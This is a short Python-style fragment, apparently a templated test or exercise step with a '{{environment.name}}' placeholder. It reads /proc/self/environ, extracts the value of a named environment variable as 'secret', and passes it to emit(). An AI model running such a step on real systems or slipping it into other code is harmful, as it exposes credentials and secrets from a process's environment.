at_step()
text = open("/proc/self/environ").read()  # step
secret = text.split("{{environment.name}}=")[1]  # step
past_step()
emit(secret)
